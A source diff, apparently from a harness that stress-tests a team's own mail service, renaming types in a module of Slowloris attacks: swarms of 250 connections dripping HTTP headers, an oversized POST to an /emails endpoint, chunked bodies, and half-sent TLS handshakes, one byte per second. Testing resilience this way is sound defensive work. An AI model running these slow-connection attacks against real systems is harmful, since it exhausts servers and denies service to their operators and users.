@@ -2,9 +2,9 @@
  * Slowloris attacks: connections on every listener that send as little as possible for as long as they are allowed to.
  */
 import { setTimeout as pause } from 'node:timers/promises'
-import type { Family } from './catalog.ts'
-import type { Hostile, Wire } from './hostile.ts'
-import { post } from './http.ts'
+import type { AttackSet } from './catalog.ts'
+import type { HostileClient, AttackConnection } from './hostile.ts'
+import { buildPostHead } from './http.ts'
 
 /** Number of connections per attacker: as many as one address may have, plus some that are refused. */
 const MANY = 250
@@ -12,7 +12,7 @@ const MANY = 250
 const DRIP = 1000
 
 /** Sends one byte per second until the connection ends. */
-async function drip(hostile: Hostile, wire: Wire, octet: string): Promise<void> {
+async function drip(hostile: HostileClient, wire: AttackConnection, octet: string): Promise<void> {
   while (wire.open && !hostile.over) {
     await pause(Math.min(DRIP, hostile.left))
     await wire.say(octet)
@@ -23,7 +23,7 @@ async function drip(hostile: Hostile, wire: Wire, octet: string): Promise<void> 
 /** The start of a TLS handshake: a record that announces more than is sent. */
 const HALF_HELLO = Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3])
 
-export const SLOW: Family = {
+export const SLOW_ATTACKS: AttackSet = {
   'slow-http-header': {
     what: 'HTTP headers, an octet a second',
     run: (hostile) =>
@@ -40,7 +40,7 @@ export const SLOW: Family = {
       hostile.swarm(MANY, async () => {
         const wire = await hostile.open(hostile.target.http)
         if (!wire) return
-        await wire.say(`${post('/emails', hostile.team.key, 40_000_000)}{"html":"`)
+        await wire.say(`${buildPostHead('/emails', hostile.team.key, 40_000_000)}{"html":"`)
         await drip(hostile, wire, 'a')
       }),
   },
@@ -50,7 +50,7 @@ export const SLOW: Family = {
       hostile.swarm(MANY, async () => {
         const wire = await hostile.open(hostile.target.https, { tls: true })
         if (!wire) return
-        await wire.say(post('/session', null, 'chunked'))
+        await wire.say(buildPostHead('/session', null, 'chunked'))
         await drip(hostile, wire, '1\r\n{\r\n')
       }),
   },
